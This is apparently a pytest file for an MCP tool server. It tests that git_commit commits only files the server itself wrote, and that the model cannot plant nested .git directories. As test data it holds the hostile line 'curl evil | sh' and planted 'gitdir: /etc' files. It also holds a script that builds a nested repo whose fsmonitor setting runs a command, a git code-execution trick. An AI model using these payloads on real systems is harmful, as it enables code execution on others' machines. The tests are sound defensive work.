"""Review #18 (round 2): git_commit commits only what the body made and audited; nested repositories the model
plants are not git's to enter."""

from __future__ import annotations

import stat
from pathlib import Path

import pytest
from mcp import Client

from ..conftest import require_binary
from .git_repos import git, git_fixtures
from .helpers import call, ok, refused

pytestmark = pytest.mark.anyio


repo, git_body, client = git_fixtures()


async def test_content_changed_by_someone_else_is_left_out(client: Client, repo: Path) -> None:
    """The control: a file the body wrote and someone then rewrote is skipped, named in `skipped`."""
    ok(await call(client, "write_file", path="tool.sh", content="echo hi\n"))
    ok(await call(client, "write_file", path="other.py", content="x = 1\n"))
    (repo / "tool.sh").write_text("curl evil | sh\n")
    done = ok(await call(client, "git_commit", message="two files"))
    assert done["files"] == ["other.py"]
    assert any(s.startswith("tool.sh: changed since") for s in done["skipped"])


async def test_an_executable_bit_set_by_someone_else_is_not_committed(client: Client, repo: Path) -> None:
    """Was a hole: git_plan._same compared content only, so an executable bit someone else set was committed as
    100755; the mode the body wrote is recorded and compared, and the path is skipped as changed since."""
    ok(await call(client, "write_file", path="tool.sh", content="echo hi\n"))
    script = repo / "tool.sh"
    script.chmod(script.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    done = await call(client, "git_commit", message="a script")
    if done.is_error:
        refused(done, "nothing_to_commit")
        return
    listed = git(repo, "ls-tree", "HEAD", "tool.sh").split()
    assert listed[0] == "100644", f"committed as {listed[0]}: a mode the body never set"


async def test_the_model_cannot_plant_a_nested_git_directory_or_file(client: Client, repo: Path) -> None:
    for path in ("vendor/lib/.git", "vendor/lib/.git/config", "vendor/.GIT/HEAD"):
        result = await call(client, "write_file", path=path, content="gitdir: /etc\n")
        refused(result, "protected_path")
    assert not (repo / "vendor").exists()


async def test_a_nested_git_a_command_makes_is_discarded(client: Client, repo: Path, tmp_path: Path) -> None:
    require_binary("bwrap", "bubblewrap")
    marker = tmp_path / "fired"
    script = (
        f"mkdir -p sub/.git && printf '[core]\\n\\tfsmonitor = touch {marker}\\n' > sub/.git/config && "
        "printf 'ref: refs/heads/main\\n' > sub/.git/HEAD && mkdir -p sub/.git/objects sub/.git/refs && "
        "echo y > sub/file.txt"
    )
    ok(await call(client, "run_command", argv=["/bin/sh", "-ec", script], timeout_s=60))
    assert not (repo / "sub" / ".git").exists()
    ok(await call(client, "git_status"))
    ok(await call(client, "git_diff"))
    ok(await call(client, "git_commit", message="sub"))
    assert not marker.exists()
    assert git(repo, "ls-tree", "-r", "--name-only", "HEAD", "sub").split() == ["sub/file.txt"]


async def test_an_executable_file_the_body_edits_is_committed_executable(client: Client, repo: Path) -> None:
    """The body keeps an executable file's mode when it rewrites it: that mode is its own, and committed."""
    script = repo / "run.sh"
    script.write_text("echo one\n")
    script.chmod(0o755)
    git(repo, "add", "run.sh")
    git(repo, "commit", "-q", "-m", "a script")
    ok(await call(client, "edit_file", path="run.sh", edits=[{"old_text": "one", "new_text": "two"}]))
    ok(await call(client, "write_file", path="plain.sh", content="echo three\n"))
    done = ok(await call(client, "git_commit", message="two scripts"))
    assert sorted(done["files"]) == ["plain.sh", "run.sh"] and done["skipped"] == []
    assert git(repo, "ls-tree", "HEAD", "run.sh").split()[0] == "100755"
    assert git(repo, "ls-tree", "HEAD", "plain.sh").split()[0] == "100644"
